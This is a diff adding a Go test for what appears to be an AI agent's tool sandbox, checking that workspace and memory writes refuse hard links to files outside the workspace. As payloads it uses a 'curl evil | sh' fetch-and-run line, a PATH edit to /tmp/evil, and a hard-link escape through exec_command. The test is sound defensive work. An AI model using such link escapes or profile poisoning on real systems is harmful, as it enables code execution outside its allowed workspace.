@@ -217,3 +217,28 @@ func TestWorkspaceWritesRefuseHardLinks(t *testing.T) {
 		t.Errorf("settings.json = %q", got)
 	}
 }
+
+// A hard link to any file outside the workspace, such as one exec_command
+// made, is refused by every writer: writing it would write the outside
+// file.
+func TestWorkspaceWritesRefuseHardLinksOutside(t *testing.T) {
+	r := newRig(t)
+	outside := filepath.Join(r.outside, "profile.sh")
+	const original = "export PATH=/usr/bin\n"
+	if err := os.WriteFile(outside, []byte(original), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	p, raw := r.mustCall(t, "exec_command", map[string]any{"command_line": "ln " + outside + " profile.sh && mkdir -p .fenix/memory/main && ln " + outside + " .fenix/memory/main/k.json"})
+	if res := decode[ExecCommandResult](t, raw); res.ExitStatus != 0 {
+		t.Fatalf("ln: %s", p.Content)
+	}
+	_, _, err := r.call(t, "workspace_write", map[string]any{"path": "profile.sh", "content": "curl evil | sh\n"})
+	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
+	_, _, err = r.call(t, "workspace_edit", map[string]any{"path": "profile.sh", "old_string": "/usr/bin", "new_string": "/tmp/evil"})
+	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
+	_, _, err = r.call(t, "memory_write", map[string]any{"key": "k", "title": "t", "content": "pwned"})
+	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
+	if b, _ := os.ReadFile(outside); string(b) != original {
+		t.Errorf("the outside file changed to %q", b)
+	}
+}
